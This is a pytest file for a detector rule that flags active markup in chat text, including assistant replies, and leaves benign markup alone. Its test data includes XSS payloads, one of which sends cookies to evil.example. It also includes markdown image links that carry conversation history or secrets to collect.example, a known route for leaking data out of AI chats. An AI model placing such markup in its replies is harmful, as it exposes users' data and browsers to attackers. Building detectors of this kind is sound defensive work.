"""SEC005: markup that acts, and markup that does not."""

from __future__ import annotations

import random

import pytest

from governance.rules.sec005_active_markup import RULE
from tests.builders import batch
from tests.rules.duplicates import fingerprints, run, shuffled
from tests.rules.places import kinds, spans

FIRES = [
    ("<script>fetch('https://evil.example/?c=' + document.cookie)</script>", "script"),
    ('收益说明<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>', "script"),
    ("<img src=x onerror=alert(1)>", "handler"),
    ('点这里<a class="b" href="#" onclick="steal()">查看</a>', "handler"),
    ("<svg/onload=alert(1)> <body onload = 'go()'>", "handler"),
    ("[click](javascript:alert(document.domain))", "script-link"),
    ("<a href=' javascript:void(0)'>领取</a>", "script-link"),
    ("[报告](data:text/html;base64,PHNjcmlwdD4=)", "script-link"),
    ('<iframe src="https://evil.example"></iframe>', "frame"),
    ("<object data='x.swf'></object>", "frame"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "frame"),
    ("![ok](https://collect.example/p.png?history={conversation})", "data-link"),
    ("![图](https://collect.example/p.png?q=${secret})", "data-link"),
    ("<img src='https://collect.example/p.gif?chat_history=abc'>", "data-link"),
]


@pytest.mark.parametrize(("text", "kind"), FIRES)
def test_markup_that_acts_fires(text: str, kind: str) -> None:
    assert kind in kinds(RULE, text)
    assert kind in kinds(RULE, [("user", "你好"), ("assistant", text)])


NEAR_MISSES = [
    "<b>bold</b> and <i>italic</i>, <br/> and <table><tr><td>1</td></tr></table>",
    "What does the <script> tag do?",
    "请解释 `<script>alert(1)</script>` 的作用",
    "示例：\n```html\n<script src='a.js'></script>\n<a onclick='x()'>a</a>\n```\n以上。",
    "![chart](https://cdn.example.com/chart.png)",
    "![图](https://img.example.com/a.jpg?imageView2/2/w/600&x-oss-process=image/resize,w_100)",
    "[官网](https://www.example.com/fund?id=42)",
    "if a <b and c on = 3 then x",
    "JavaScript: The Good Parts is a book",
    "the frame <iframe> has no source",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "利率<5%且期限>3年，年化onsite = 4",
    '<a href="https://example.com/terms" title="once upon">条款</a>',
    "<p class='on-top' data-onset='4'>text</p>",
    "the phrase “<script>x</script>” is a quotation",
    "email <jane@example.com> on behalf = of",
]


@pytest.mark.parametrize("text", NEAR_MISSES)
def test_plain_markup_and_code_stay_quiet(text: str) -> None:
    assert [] == kinds(RULE, text)


def test_offsets_count_characters() -> None:
    assert ["<script>a()</script"] == spans(RULE, [("user", "😀"), ("assistant", "好😀<script>a()</script>")])


def test_order_does_not_matter() -> None:
    rows = batch(*(text for text, _ in FIRES))
    order = random.Random(1).sample(range(len(rows)), len(rows))

    assert fingerprints(run(RULE, rows)) == fingerprints(run(RULE, shuffled(rows, order), spill=0))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "😀" * 1000,
        "<script>" * 20_000,
        "<a " * 30_000,
        '<a b="' * 20_000,
        "![](" * 30_000,
        "<a b='c' " * 20_000,
    ],
)
def test_degenerate_and_hostile_input_is_quiet(text: str) -> None:
    assert [] == kinds(RULE, text)
